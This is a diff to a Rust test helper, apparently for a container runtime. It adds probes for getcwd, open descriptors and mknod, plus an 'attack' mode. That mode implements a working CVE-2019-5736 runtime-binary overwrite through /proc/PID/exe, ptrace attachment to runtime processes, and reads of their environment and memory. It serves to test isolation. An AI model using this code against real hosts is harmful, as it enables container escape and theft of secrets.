@@ -7,6 +7,14 @@
 //! - `probe stat PATH...`: lstat of each path.
 //! - `probe read PATH`: reads a file.
 //! - `probe write PATH TEXT`: truncates a file and writes TEXT to it.
+//! - `probe statf PATH...`: stat of each path, following symlinks.
+//! - `probe cwd`: the kernel's getcwd, which names a directory outside the
+//!   root "(unreachable)/...".
+//! - `probe fds`: each open descriptor's link, device and inode.
+//! - `probe mknod PATH b|c MAJOR MINOR`: makes a device node and opens it.
+//! - `probe attack exe|ptrace|snoop STOPFILE MS`: an attacker that loops
+//!   over every other process until STOPFILE exists (and a little longer)
+//!   or MS milliseconds pass; see [`attack`].
 
 use std::fmt::{Display, Write as _};
 use std::fs;
@@ -336,8 +344,17 @@ fn file_type(mode: u32) -> &'static str {
 
 /// `probe stat PATH...`: path -> lstat summary, or null when lstat fails.
 fn stat(paths: &[String]) -> String {
+    stat_with(paths, |p| fs::symlink_metadata(p))
+}
+
+/// `probe statf PATH...`: as `stat`, through symlinks.
+fn statf(paths: &[String]) -> String {
+    stat_with(paths, |p| fs::metadata(p))
+}
+
+fn stat_with(paths: &[String], how: fn(&str) -> io::Result<fs::Metadata>) -> String {
     obj(paths.iter().map(|path| {
-        let st = fs::symlink_metadata(path).ok().map(|m| {
+        let st = how(path).ok().map(|m| {
             obj([
                 ("type", q(file_type(m.mode()))),
                 ("major", libc::major(m.rdev()).to_string()),
@@ -453,12 +470,386 @@ fn write(path: &str, text: &str) -> String {
     outcome(fs::write(path, text).map(|()| vec![]))
 }
 
+/// `probe cwd`: what the kernel's getcwd (not libc's, which hides the
+/// prefix) says, and whether that is a path from the root at all.
+fn cwd() -> String {
+    let mut buf = vec![0u8; 4096];
+    // SAFETY: the kernel writes at most buf.len() bytes into buf.
+    let n = unsafe { libc::syscall(libc::SYS_getcwd, buf.as_mut_ptr(), buf.len()) };
+    let errno = io::Error::last_os_error().raw_os_error().unwrap_or(0);
+    let Ok(n) = usize::try_from(n) else {
+        return obj([("ok", "false".into()), ("errno", errno.to_string())]);
+    };
+    buf.truncate(n);
+    let path = String::from_utf8_lossy(&buf);
+    let path = path.trim_end_matches('\0');
+    let entries = fs::read_dir(".")
+        .map(|d| {
+            d.filter_map(|e| e.ok())
+                .map(|e| q(&e.file_name().to_string_lossy()))
+                .collect::<Vec<_>>()
+        })
+        .unwrap_or_default();
+    obj([
+        ("ok", "true".into()),
+        ("path", q(path)),
+        ("reachable", path.starts_with('/').to_string()),
+        ("entries", list(entries.into_iter())),
+    ])
+}
+
+/// `probe fds`: descriptor -> {link, dev, ino}, without the one that
+/// lists the directory.
+fn fds() -> String {
+    let own = format!("/proc/{}/fd", std::process::id());
+    let mut out = Vec::new();
+    for e in fs::read_dir("/proc/self/fd")
+        .into_iter()
+        .flatten()
+        .flatten()
+    {
+        let link = fs::read_link(e.path()).map(|p| p.display().to_string());
+        if link.as_deref().is_ok_and(|l| l == own) {
+            continue;
+        }
+        let st = fs::metadata(e.path()).ok();
+        out.push((
+            e.file_name().to_string_lossy().into_owned(),
+            obj([
+                ("link", opt(link.ok())),
+                ("dev", num(st.as_ref().map(|m| m.dev()))),
+                ("ino", num(st.as_ref().map(|m| m.ino()))),
+            ]),
+        ));
+    }
+    obj(out)
+}
+
+/// {"ok":true} or {"ok":false,"errno":N} of a libc call's return value.
+fn rc(r: libc::c_int) -> String {
+    outcome(match r {
+        0.. => Ok(vec![]),
+        _ => Err(io::Error::last_os_error()),
+    })
+}
+
+/// `probe mknod PATH b|c MAJOR MINOR`: mknod, then open for reading (the
+/// device cgroup may refuse either).
+fn mknod(args: &[String]) -> String {
+    let path = std::ffi::CString::new(args.first().cloned().unwrap_or_default()).unwrap();
+    let kind = match args.get(1).map(String::as_str) {
+        Some("b") => libc::S_IFBLK,
+        _ => libc::S_IFCHR,
+    };
+    let n = ints(&args[2.min(args.len())..]);
+    let dev = libc::makedev(
+        n.first().copied().unwrap_or(0) as u32,
+        n.get(1).copied().unwrap_or(0) as u32,
+    );
+    // SAFETY: a NUL-terminated path; mknod and open take no other pointers.
+    let made = unsafe { libc::mknod(path.as_ptr(), kind | 0o600, dev) };
+    let made = rc(made);
+    // SAFETY: as above.
+    let fd = unsafe { libc::open(path.as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC) };
+    let opened = rc(fd);
+    if fd >= 0 {
+        // SAFETY: our own descriptor.
+        unsafe { libc::close(fd) };
+    }
+    obj([("mknod", made), ("open", opened)])
+}
+
+/// (device, inode) of a file, through symlinks and /proc magic links.
+fn file_id(path: &str) -> Option<(u64, u64)> {
+    fs::metadata(path).ok().map(|m| (m.dev(), m.ino()))
+}
+
+/// Every process but this one, as /proc lists them.
+fn other_pids() -> Vec<i32> {
+    let me = std::process::id() as i32;
+    fs::read_dir("/proc")
+        .into_iter()
+        .flatten()
+        .flatten()
+        .filter_map(|e| e.file_name().to_str()?.parse().ok())
+        .filter(|&p| p != me)
+        .collect()
+}
+
+fn raw_ptrace(req: libc::c_uint, pid: i32, data: libc::c_long) -> libc::c_long {
+    // SAFETY: requests that take no pointers (addr 0, data an integer).
+    unsafe {
+        libc::syscall(
+            libc::SYS_ptrace,
+            req as libc::c_long,
+            pid as libc::c_long,
+            0,
+            data,
+        )
+    }
+}
+
+/// The attacker's state across rounds.
+struct Attack {
+    /// The container's own programs: any other /proc/PID/exe is the
+    /// runtime's, seen before the execve that should have hidden it.
+    ours: Vec<(u64, u64)>,
+    /// Successful accesses to processes running the container's programs
+    /// (after their execve): proof that the loop reaches what berth starts.
+    hits_after_exec: u64,
+    /// Those processes: left alone from then on (a process does not go
+    /// back to running the runtime), so that the loop spends its time on
+    /// new ones, and so that tracing does not starve them.
+    after_exec: std::collections::BTreeSet<i32>,
+    pids_seen: std::collections::BTreeSet<i32>,
+    findings: Vec<String>,
+    findings_total: u64,
+    /// exe: O_PATH descriptors of runtime binaries, one per inode.
+    held: Vec<(libc::c_int, (u64, u64), String)>,
+    write_opens: Vec<String>,
+    writes: u64,
+}
+
+/// What an attacker writes over a runtime binary it manages to open.
+const SCRIBBLE: &[u8] = b"#!/bin/sh\necho the container rewrote the runtime\n";
+
+impl Attack {
+    fn foreign(&self, id: Option<(u64, u64)>) -> bool {
+        id.is_some_and(|id| !self.ours.contains(&id))
+    }
+
+    fn seen_after_exec(&mut self, pid: i32) {
+        self.hits_after_exec += 1;
+        self.after_exec.insert(pid);
+    }
+
+    /// The first findings only (the same process is found round after
+    /// round); `findings_total` counts them all.
+    fn note(&mut self, fields: Vec<(&str, String)>) {
+        self.findings_total += 1;
+        if self.findings.len() < 20 {
+            self.findings.push(obj(fields));
+        }
+    }
+
+    /// Writes over the start of an open runtime binary; records the open
+    /// and what the write did.
+    fn scribble(&mut self, fd: libc::c_int, how: &str, link: &str) {
+        // SAFETY: a live descriptor and a buffer of the length passed.
+        let n = unsafe { libc::pwrite(fd, SCRIBBLE.as_ptr().cast(), SCRIBBLE.len(), 0) };
+        let errno = io::Error::last_os_error().raw_os_error().unwrap_or(0);
+        if n > 0 {
+            self.writes += 1;
+        }
+        self.write_opens.push(obj([
+            ("how", q(how)),
+            ("link", q(link)),
+            ("written", n.to_string()),
+            ("errno", if n < 0 { errno } else { 0 }.to_string()),
+        ]));
+    }
+
+    /// CVE-2019-5736: keep an O_PATH descriptor of every runtime binary
+    /// seen, try O_WRONLY directly (ETXTBSY while it runs).
+    fn exe(&mut self, pid: i32) {
+        let path = format!("/proc/{pid}/exe");
+        let c = std::ffi::CString::new(path.clone()).unwrap();
+        // SAFETY: a NUL-terminated path.
+        let fd = unsafe { libc::open(c.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
+        if fd < 0 {
+            return;
+        }
+        let id = file_id(&format!("/proc/self/fd/{fd}"));
+        let link = fs::read_link(&path)
+            .map(|p| p.display().to_string())
+            .unwrap_or_default();
+        if !self.foreign(id) {
+            self.seen_after_exec(pid);
+            // SAFETY: our own descriptor.
+            unsafe { libc::close(fd) };
+            return;
+        }
+        if self.held.iter().any(|h| Some(h.1) == id) {
+            // SAFETY: our own descriptor.
+            unsafe { libc::close(fd) };
+        } else {
+            self.held.push((fd, id.unwrap(), link.clone()));
+        }
+        // SAFETY: a NUL-terminated path.
+        let w = unsafe { libc::open(c.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
+        if w >= 0 {
+            self.scribble(w, "direct", &link);
+            // SAFETY: our own descriptor.
+            unsafe { libc::close(w) };
+        }
+    }
+
+    /// The second half of CVE-2019-5736: once nothing runs the binary any
+    /// more, reopen the kept descriptors for writing.
+    fn reopen_held(&mut self) {
+        let held: Vec<_> = self.held.iter().map(|h| (h.0, h.2.clone())).collect();
+        for (fd, link) in held {
+            let c = std::ffi::CString::new(format!("/proc/self/fd/{fd}")).unwrap();
+            // SAFETY: a NUL-terminated path.
+            let w = unsafe { libc::open(c.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
+            if w >= 0 {
+                self.scribble(w, "reopen", &link);
+                // SAFETY: our own descriptor.
+                unsafe { libc::close(w) };
+            }
+        }
+    }
+
+    /// PTRACE_ATTACH or PTRACE_SEIZE; a tracee running a runtime binary is
+    /// a finding. Every tracee is let go at once.
+    fn ptrace(&mut self, pid: i32, seize: bool) {
+        let req = if seize {
+            libc::PTRACE_SEIZE
+        } else {
+            libc::PTRACE_ATTACH
+        };
+        if raw_ptrace(req, pid, 0) != 0 {
+            return;
+        }
+        if seize {
+            raw_ptrace(libc::PTRACE_INTERRUPT, pid, 0);
+        }
+        // Until it stops (or exits): only a stopped tracee can be let go,
+        // and one left traced would stay stopped for good. Stopped, the
+        // program it runs cannot change under us either.
+        let mut status = 0;
+        // SAFETY: status is a valid int to write.
+        unsafe { libc::waitpid(pid, &mut status, libc::__WALL) };
+        let path = format!("/proc/{pid}/exe");
+        let id = file_id(&path);
+        if self.foreign(id) {
+            let link = fs::read_link(&path).map(|p| p.display().to_string());
+            self.note(vec![
+                ("pid", pid.to_string()),
+                ("how", q(if seize { "seize" } else { "attach" })),
+                ("link", opt(link.ok())),
+            ]);
+        } else if id.is_some() {
+            self.seen_after_exec(pid);
+        }
+        raw_ptrace(libc::PTRACE_DETACH, pid, 0);
+        if !seize {
+            // PTRACE_ATTACH's SIGSTOP may still be pending (the stop seen
+            // was another, such as the SIGTRAP that ends an execve):
+            // SIGCONT discards it, or the process would stop for good.
+            // SAFETY: kill takes no pointers.
+            unsafe { libc::kill(pid, libc::SIGCONT) };
+        }
+    }
+
+    /// What a process that is dumpable gives away: its exe link, its
+    /// environment, its memory. Before and after, so that a process that
+    /// runs a runtime binary during the reads is found.
+    fn snoop(&mut self, pid: i32) {
+        let exe = format!("/proc/{pid}/exe");
+        let before = file_id(&exe);
+        let environ = fs::read(format!("/proc/{pid}/environ")).is_ok();
+        let mem = fs::File::open(format!("/proc/{pid}/mem")).is_ok();
+        let link = fs::read_link(&exe).map(|p| p.display().to_string());
+        let after = file_id(&exe);
+        if self.foreign(before) || self.foreign(after) {
+            self.note(vec![
+                ("pid", pid.to_string()),
+                ("link", opt(link.ok())),
+                ("environ", environ.to_string()),
+                ("mem", mem.to_string()),
+            ]);
+        } else if before.is_some() && after.is_some() {
+            self.seen_after_exec(pid);
+        }
+    }
+}
+
+/// `probe attack KIND STOPFILE MS`: what a root process in a container can
+/// try against the processes the runtime starts in it, in a loop over
+/// every other process in the pid namespace, until STOPFILE appears (and
+/// 300 ms more, when no runtime process runs any more) or MS ms pass.
+/// KIND: `exe` (CVE-2019-5736 against /proc/PID/exe), `ptrace`, `snoop`
+/// (/proc/PID/exe, environ and mem).
+fn attack(args: &[String]) -> String {
+    use std::time::{Duration, Instant};
+    let kind = args.first().cloned().unwrap_or_default();
+    let stop = args.get(1).cloned().unwrap_or_default();
+    let ms = args.get(2).and_then(|a| a.parse().ok()).unwrap_or(10_000);
+    let mut deadline = Instant::now() + Duration::from_millis(ms);
+    let ours = ["/bin/busybox", "/bin/probe", "/proc/self/exe"]
+        .iter()
+        .filter_map(|p| file_id(p))
+        .collect();
+    let mut a = Attack {
+        ours,
+        hits_after_exec: 0,
+        after_exec: Default::default(),
+        pids_seen: Default::default(),
+        findings: vec![],
+        findings_total: 0,
+        held: vec![],
+        write_opens: vec![],
+        writes: 0,
+    };
+    let mut rounds: u64 = 0;
+    let mut stopping = false;
+    while Instant::now() < deadline {
+        rounds += 1;
+        for pid in other_pids() {
+            if a.after_exec.contains(&pid) {
+                continue;
+            }
+            a.pids_seen.insert(pid);
+            match kind.as_str() {
+                "exe" => a.exe(pid),
+                "ptrace" => a.ptrace(pid, rounds.is_multiple_of(2)),
+                _ => a.snoop(pid),
+            }
+        }
+        a.reopen_held();
+        // As the container's init, the attacker inherits the processes of
+        // `exec -d` when exec exits: reaped, or /proc fills with zombies.
+        let mut status = 0;
+        // SAFETY: status is a valid int to write.
+        while unsafe { libc::waitpid(-1, &mut status, libc::WNOHANG) } > 0 {}
+        if !stopping && std::path::Path::new(&stop).exists() {
+            stopping = true;
+            deadline = deadline.min(Instant::now() + Duration::from_millis(300));
+        }
+    }
+    let held = a.held.iter().map(|(_, (dev, ino), link)| {
+        obj([
+            ("link", q(link)),
+            ("dev", dev.to_string()),
+            ("ino", ino.to_string()),
+        ])
+    });
+    obj([
+        ("kind", q(&kind)),
+        ("rounds", rounds.to_string()),
+        ("stopped", stopping.to_string()),
+        ("pids_seen", a.pids_seen.len().to_string()),
+        ("hits_after_exec", a.hits_after_exec.to_string()),
+        ("findings", list(a.findings.into_iter())),
+        ("findings_total", a.findings_total.to_string()),
+        ("held", list(held)),
+        ("write_opens", list(a.write_opens.into_iter())),
+        ("writes", a.writes.to_string()),
+    ])
+}
+
 fn main() {
     let args: Vec<String> = std::env::args().skip(1).collect();
     let arg = |i: usize| args.get(i).map(String::as_str);
     let out = match arg(0) {
         Some("exit") => std::process::exit(arg(1).and_then(|a| a.parse().ok()).unwrap_or(0)),
         Some("stat") => stat(&args[1..]),
+        Some("statf") => statf(&args[1..]),
+        Some("cwd") => cwd(),
+        Some("fds") => fds(),
+        Some("mknod") => mknod(&args[1..]),
+        Some("attack") => attack(&args[1..]),
         Some("read") => read(arg(1).unwrap_or("")),
         Some("write") => write(arg(1).unwrap_or(""), arg(2).unwrap_or("")),
         Some("syscall") => syscall(&args[1..]),
